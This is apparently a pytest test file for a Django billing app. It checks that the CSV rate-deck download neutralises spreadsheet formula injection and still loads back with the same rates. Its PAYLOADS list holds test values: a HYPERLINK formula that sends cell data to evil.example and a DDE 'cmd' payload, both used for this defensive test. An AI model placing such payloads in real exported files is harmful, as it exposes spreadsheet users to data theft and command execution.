"""The rate deck download (Settings > Rates) is a CSV for people: no cell starts a formula,
and the file still loads back through `load_rates` with the same rates."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from credits.platform import csvsafe
from credits.platform.services import Actor
from tests.factories import OrganizationFactory
from usage import decks, rating
from usage.models import Rate
from usage.services import rate_deck_load

pytestmark = pytest.mark.django_db

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = ['HYPERLINK("http://evil.example/?"&A1,"x")', "1+cmd|' /C calc'!A0", "SUM(1,2)",
            "2+3", "Premium"]


def rate(prefix: str, destination: str, **changes) -> rating.Rate:
    return rating.Rate(**{
        "direction": "outbound", "prefix": prefix, "destination": destination,
        "country": "FR", "number_type": "landline", "rate_per_minute": Decimal("0.02400"),
        "connection_fee": Decimal("0.15"), "first_increment_s": 60, "next_increment_s": 6,
        "currency": "USD", "effective_from": date(2026, 1, 1), **changes})


def formula_like(cell: str) -> bool:
    return cell[:1] in DANGEROUS and not csvsafe._PLAIN_DECIMAL.match(cell)


def deck_of(organization) -> set[tuple]:
    return set(Rate.objects.filter(organization=organization).values_list(
        "direction", "prefix", "destination", "country", "number_type", "rate_per_minute",
        "connection_fee", "first_increment_s", "next_increment_s", "currency",
        "effective_from"))


def test_every_dangerous_first_character_is_neutralized_and_loads_back(
        tmp_path, org, client_for, make_person):
    rows = [rate(str(331 + n), first + payload)
            for n, (first, payload) in enumerate(
                (f, p) for f in [*DANGEROUS, "'", "'="] for p in PAYLOADS)]
    # A quote that is the data, not the neutralizing one, must survive too.
    rows.append(rate("44", "'s-Hertogenbosch"))
    rate_deck_load(organization=org, rates=rows, actor=Actor.system("test"))

    response = client_for(make_person("teams_communications_administrator")).get(
        reverse("settings_rates_download"))
    assert response.status_code == 200
    body = response.content.decode()
    table = list(csv.reader(io.StringIO(body, newline="")))
    assert table[0] == decks.COLUMNS and len(table) == len(rows) + 1
    for line in table[1:]:
        assert not any(formula_like(cell) for cell in line), line

    other = OrganizationFactory(slug="round-trip", currency="USD")
    path = tmp_path / "deck.csv"
    path.write_bytes(response.content)
    call_command("load_rates", str(path), "--org", other.slug, stdout=io.StringIO())
    assert deck_of(other) == deck_of(org)
    assert ("outbound", "331", '=HYPERLINK("http://evil.example/?"&A1,"x")') in {
        r[:3] for r in deck_of(other)}


@settings(max_examples=200, deadline=None, database=None, derandomize=True)
@given(first=st.sampled_from([*DANGEROUS, "'", ""]),
       rest=st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"),
                    max_size=60))
def test_any_destination_round_trips_through_the_written_deck(first, rest):
    destination = (first + rest).strip()[:100]
    if not destination:
        return
    # The deck keeps destinations stripped (parse_row strips every cell).
    if destination != destination.strip():
        return
    out = io.StringIO()
    decks.write_deck([rate("33", destination)], out)
    for line in csv.reader(io.StringIO(out.getvalue(), newline="")):
        assert not any(formula_like(cell) for cell in line), line
    rates, errors = decks.parse_deck(out.getvalue(), "USD")
    assert errors == [] and [r.destination for r in rates] == [destination]
